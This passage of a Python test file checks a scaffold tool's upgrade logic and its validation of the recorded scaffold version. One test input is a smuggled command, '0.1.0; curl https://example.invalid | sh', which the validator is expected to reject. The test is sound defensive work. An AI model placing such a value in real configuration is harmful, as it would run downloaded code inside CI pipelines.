    regenerate(project, check=True)  # a project without the answer is still a valid project
    git(project, "init", "--quiet")
    git(project, "add", "-A")
    git(project, "commit", "--quiet", "-m", "made by template 1.3.0")

    monkeypatch.setattr(upgrade_module, "__version__", LATER)  # the scaffold that upgrades
    report = upgrade(project)

    assert not report.conflicts, report.conflicts
    after = yaml.safe_load((project / ".copier-answers.yml").read_text(encoding="utf-8"))
    assert after["scaffold_version"] == LATER
    assert after["_commit"] != before["_commit"]
    changed = {line.split(" ", 1)[1] for line in report.changed}
    assert {GITHUB, GITLAB, ".copier-answers.yml"} <= changed
    extra = "[check]" if kind == "module" else ""
    for relative in CI_FILES:
        assert scaffold_requirement(
            relative, yaml.safe_load((project / relative).read_text(encoding="utf-8"))
        ) == (f"{DISTRIBUTION}{extra}=={LATER}")


@pytest.mark.parametrize(
    ("recorded", "shown"),
    [
        ("'0.1.0; curl https://example.invalid | sh'", "'0.1.0; curl https://example.invalid | sh'"),
        ("0.1", "a number"),
        ("v0.1.0", "'v0.1.0'"),
        ("'0.1.0-rc1'", "'0.1.0-rc1'"),
        ("null", "an empty value"),
    ],
)
def test_recorded_scaffold_version_must_be_a_normalised_version(
    plugin: Made, home: Path, tmp_path: Path, recorded: str, shown: str
) -> None:
    """It lands in a pip requirement of a CI job, and `.copier-answers.yml` can come from a pull request."""
    project = tmp_path / plugin.root.name
    shutil.copytree(plugin.root, project)
    answers = project / ".copier-answers.yml"
    text = answers.read_text(encoding="utf-8")
    answers.write_text(text.replace(f"scaffold_version: {__version__}", f"scaffold_version: {recorded}"))
    with pytest.raises(ProjectError) as caught:
        regenerate(project, check=True)
    assert caught.value.message == (
        ".copier-answers.yml: scaffold_version must be a scaffold version in normalised PEP 440 form "
        f"such as 0.1.0 or 1.2.0rc1, not {shown}; fix that answer or restore the file from git "
        "(git checkout -- .copier-answers.yml)"
    )


def test_a_bad_scaffold_version_is_one_sentence_from_the_cli(plugin: Made, tmp_path: Path) -> None:
    project = tmp_path / plugin.root.name
    shutil.copytree(plugin.root, project)
    answers = project / ".copier-answers.yml"
    answers.write_text(
        answers.read_text(encoding="utf-8").replace(f"scaffold_version: {__version__}", "scaffold_version: x")
    )
    result = run_scaffold(["regenerate", "--check"], cwd=project)
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    assert "scaffold_version must be a scaffold version" in result.stderr
